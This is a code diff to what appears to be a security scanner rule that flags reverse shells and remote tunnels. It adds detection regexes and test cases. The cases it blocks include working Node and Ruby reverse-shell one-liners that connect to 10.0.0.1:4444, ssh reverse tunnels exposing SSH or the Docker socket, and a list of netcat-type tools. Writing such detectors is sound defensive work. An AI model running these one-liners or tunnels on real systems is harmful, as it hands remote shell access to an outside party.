@@ -12,6 +12,14 @@ import { SHELLS } from "../../analysis/shell/unwrap.js";
 const DOOR_PORT =
   /:(?:localhost|127(?:\.\d+){1,3}|\[?::1\]?|0\.0\.0\.0)?:?(?:22|2375|2376|3389|5900|5901)$|:\/(?:var\/)?run\/docker\.sock$/;
 
+/** Inline code that opens a network connection: a socket in any of the common runtimes' spellings. */
+const CONNECTS =
+  /\bsocket\b|\bnet\.(?:connect|Socket|createConnection)\b|\brequire\(\s*['"](?:node:)?net['"]\s*\)|\bfrom\s+['"](?:node:)?net['"]|\bfsockopen\b|\bIO::Socket\b|\bTCPSocket\b|\b(?:Deno|Bun)\.connect\b/i;
+
+/** An interactive shell started with no command of its own (`spawn('/bin/sh')`, `spawn('bash', ['-i'])`): its stdio is the other end's. */
+const BARE_SHELL =
+  /\b(?:spawn|exec|execFile|popen|proc_open|Process\.spawn|IO\.popen|Command)\s*\(\s*\[?\s*['"](?:\/usr)?(?:\/bin\/)?(?:ba|z|da|k)?sh['"]\s*(?:\)|\]|,\s*\[\s*(?:['"]-i['"])?\s*\]|,\s*\{|,\s*['"]r\+['"])|['"\s](?:\/usr)?\/bin\/(?:ba|z|da|k)?sh\s+-i\b/;
+
 const NETCATS = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat", "openssl"]);
 
 export default defineRule({
@@ -31,6 +39,14 @@ export default defineRule({
         { shell: "ssh -N -R 0.0.0.0:2222:localhost:22 tunnel@relay.example" },
         { shell: "autossh -M 0 -f -N -R 9022:127.0.0.1:22 user@vps.example" },
         { shell: "ssh -fNR '*:2375:/var/run/docker.sock' x@relay.example" },
+        {
+          shell:
+            "node -e \"const c=require('child_process').spawn('/bin/sh');const s=require('net').connect(4444,'10.0.0.1',()=>{s.pipe(c.stdin);c.stdout.pipe(s)})\"",
+        },
+        {
+          shell:
+            'ruby -rsocket -e \'s=TCPSocket.new("10.0.0.1",4444);IO.popen("sh","r+"){|p|loop{p.puts s.gets;s.puts p.gets}}\'',
+        },
       ],
       allow: [
         { shell: "nc -zv localhost 5432" },
@@ -38,6 +54,11 @@ export default defineRule({
         { shell: "socat - TCP:localhost:6379" },
         { shell: "ssh -N -R 8080:localhost:3000 demo@tunnel.example", note: "a dev server shown to a reviewer" },
         { shell: "ssh -N -L 5433:localhost:5432 dev@bastion.example" },
+        {
+          shell:
+            "node -e \"require('net').createServer(s=>s.end('ok')).listen(3001);require('child_process').spawn('sh',['-c','npm run build'],{stdio:'inherit'})\"",
+          note: "a socket and a shell command, not a shell on the socket",
+        },
       ],
     }),
   },
@@ -92,10 +113,11 @@ export default defineRule({
     }
     for (const code of analysis.inlineCode) {
       if (
-        /\bsocket\b/i.test(code.code) &&
-        /\b(?:dup2|pty\.spawn|subprocess\.call\(\s*\[?\s*['"]\/bin\/(?:ba)?sh|exec\s*\(\s*['"]\/bin\/(?:ba)?sh|\/bin\/sh\s+-i|spawn\(\s*['"]\/bin\/(?:ba)?sh)/.test(
+        CONNECTS.test(code.code) &&
+        (/\b(?:dup2|pty\.spawn|subprocess\.call\(\s*\[?\s*['"]\/bin\/(?:ba)?sh|exec\s*\(\s*['"]\/bin\/(?:ba)?sh|\/bin\/sh\s+-i|spawn\(\s*['"]\/bin\/(?:ba)?sh)/.test(
           code.code,
-        )
+        ) ||
+          BARE_SHELL.test(code.code))
       )
         return hit(describe(code.command));
     }
